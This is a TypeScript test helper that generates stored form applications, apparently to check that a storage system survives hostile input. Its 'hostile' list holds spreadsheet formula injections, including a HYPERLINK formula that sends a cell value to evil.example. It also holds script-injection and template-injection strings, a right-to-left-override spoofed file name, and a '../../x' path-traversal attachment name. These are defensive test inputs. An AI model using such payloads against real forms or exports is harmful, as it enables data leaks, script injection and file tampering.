import { Readable } from 'node:stream';
import { type Attachment, isAttachment } from '#forms/attachment.ts';
import { answersOf } from '#forms/check.ts';
import { answerAt, withAnswer } from '#forms/draft.ts';
import type { Form } from '#forms/form.ts';
import { newId } from '#forms/id.ts';
import { questionsOf } from '#forms/questions.ts';
import { draftOf } from '#forms/receive.ts';
import { applicationOf, type StoredApplication, type StoredFile } from '#server/storing/application.ts';
import { disk, type FileSystem } from '#server/storing/fileSystem.ts';
import { directoryStore } from '#server/storing/folder/directoryStore.ts';
import type { ApplicationStore } from '#server/storing/store.ts';
import { applications } from '#tests/applications.ts';
import { handmadePdf } from '#tests/forms/handmadePdf.ts';
import { sha256 } from '#tests/server/application.ts';

/** Hostile texts for all text fields. */
export const hostile = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '＝1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '<script>alert(1)</script>',
  `"><img src=x onerror='alert(1)'>`,
  '</td></tr></table>&amp;{{7*7}}${7*7}',
  'a","b";"c\td',
  '\u202egnp.exe\u202c',
  // With a second name it is longer than the name of a file may be.
  'رنا منصور '.repeat(8).trim(),
  "Jean-Marc d'Arc",
  'خوري Khoury 李 🏫',
] as const;
export const HOSTILE_FILE = '../../x';

const pdf = new TextEncoder().encode(handmadePdf());

/** An example with this text in every text field that has an answer. */
const withText = (form: Form, example: object, text: string) => {
  let draft = draftOf(form, example);
  for (const step of Object.keys(form.steps))
    for (const { field, path } of questionsOf(form, step, draft))
      if ((field.kind === 'text' || field.kind === 'lines') && field.lang !== 'ar' && answerAt(draft, path) !== '')
        draft = withAnswer(draft, path, text);
  return answersOf(form, draft)!;
};

type Received = Record<string, unknown>;

/** The answers with stored files, all with the same content. */
const withFiles = (answers: Received, isHostile: boolean) => {
  const files: string[] = [];
  const visit = (value: unknown): unknown => {
    if (isAttachment(value)) {
      const file = `${String(files.length + 1).padStart(2, '0')}.pdf`;
      files.push(file);
      const name = isHostile ? HOSTILE_FILE : value.name;
      const body = { file, name, type: value.type, size: pdf.length, sha256: sha256(pdf), flags: [] };
      return { ...value, body } satisfies Attachment<StoredFile>;
    }
    if (Array.isArray(value)) return value.map(visit);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, visit(inner)]));
  };
  return { received: visit(answers) as Received, files };
};

interface Kind {
  form: Form;
  answers: Received;
  isHostile: boolean;
}

/** All examples, and for each hostile text an example with it. */
const kinds = (): Kind[] =>
  applications.flatMap(({ form, examples }) => {
    const all = Object.values(examples);
    return [
      ...all.map((answers) => ({ form, answers: answers as Received, isHostile: false })),
      ...hostile.map((text, i) => ({ form, answers: withText(form, all[i % all.length]!, text), isHostile: true })),
    ];
  });

const HOUR = 60 * 60 * 1000;

/** How many applications have one of each kind. */
export const kindCount = (): number => kinds().length;

/** A disk that does not sync, which makes it ten times as fast. */
const quickDisk: FileSystem = {
  ...disk,
  open: async (...args) => Object.assign(await disk.open(...args), { sync: async () => {} }),
};

/** Stores generated applications, received once an hour since the beginning of 2026. */
export const generateInto = async (store: ApplicationStore, count: number): Promise<StoredApplication[]> => {
  await store.open(applications.map(({ name }) => name));
  const all = kinds();
  const stored: StoredApplication[] = [];
  for (let i = 0; i < count; i += 1) {
    const { form, answers, isHostile } = all[i % all.length]!;
    const { received, files } = withFiles(answers, isHostile);
    const receivedAt = new Date(Date.parse('2026-01-01T00:00:00Z') + i * HOUR);
    const application = applicationOf(form.name, newId(), received, receivedAt);
    await store.withSpool(async (spool) => {
      for (const file of files) await spool.write(file, Readable.from([pdf]));
      await store.commit(application, spool);
    });
    stored.push(application);
  }
  return stored;
};

/** The same in a folder. */
export const generate = (dataDir: string, count: number): Promise<StoredApplication[]> =>
  generateInto(directoryStore(quickDisk, dataDir), count);
